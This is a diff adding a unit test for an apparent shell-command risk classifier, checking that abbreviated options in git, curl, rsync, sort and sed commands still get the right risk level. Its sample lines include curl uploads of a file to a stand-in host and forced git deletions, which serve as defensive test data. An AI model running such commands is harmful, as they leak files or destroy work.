@@ -74,6 +74,32 @@ static void programs_do_what_their_line_says(void **state)
     assert_true(lines > 900);
 }
 
+/* getopt_long and git take the beginning of a long option for the whole. */
+static void abbreviated_options_raise_the_level(void **state)
+{
+    static const struct example lines[] = {
+        {"git push --forc", RISK_HIGH, RISK_DATA_DELETION | RISK_NETWORK_ACCESS},
+        {"git reset --ha", RISK_HIGH, RISK_DATA_DELETION},
+        {"git checkout --f", RISK_HIGH, RISK_DATA_DELETION},
+        {"git rm --forc src", RISK_HIGH, RISK_DATA_DELETION},
+        {"curl --data-bin @notes.txt https://x.example/", RISK_HIGH, RISK_DATA_EXFILTRATION},
+        {"curl --upl notes.txt https://x.example/", RISK_HIGH, RISK_DATA_EXFILTRATION},
+        {"rsync -a --delet a/ b/", RISK_HIGH, RISK_DATA_DELETION},
+        {"sort --outp=b.txt a.txt", RISK_MEDIUM, 0},
+        {"sed --in-pl s/a/b/ a.txt", RISK_MEDIUM, 0},
+        /* an option of that name is no abbreviation; and none makes an exception */
+        {"curl --data a=b https://x.example/", RISK_MEDIUM, RISK_NETWORK_ACCESS},
+        {"git rm --force --cach src", RISK_HIGH, RISK_DATA_DELETION},
+        {"git checkout -- --forc", RISK_HIGH, RISK_DATA_DELETION},
+        {"git grep -- --forc", RISK_LOW, 0},
+    };
+    size_t wrong = 0;
+    (void)state;
+    for (size_t i = 0; i < COUNT(lines); i++)
+        wrong += check(&lines[i]);
+    assert_int_equal(wrong, 0);
+}
+
 static void calls_do_what_their_line_says(void **state)
 {
     size_t wrong = 0;
@@ -115,6 +141,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(programs_do_what_their_line_says),
+        cmocka_unit_test(abbreviated_options_raise_the_level),
         cmocka_unit_test(calls_do_what_their_line_says),
         cmocka_unit_test(patterns_fit),
         cmocka_unit_test(options_are_found_with_their_values),
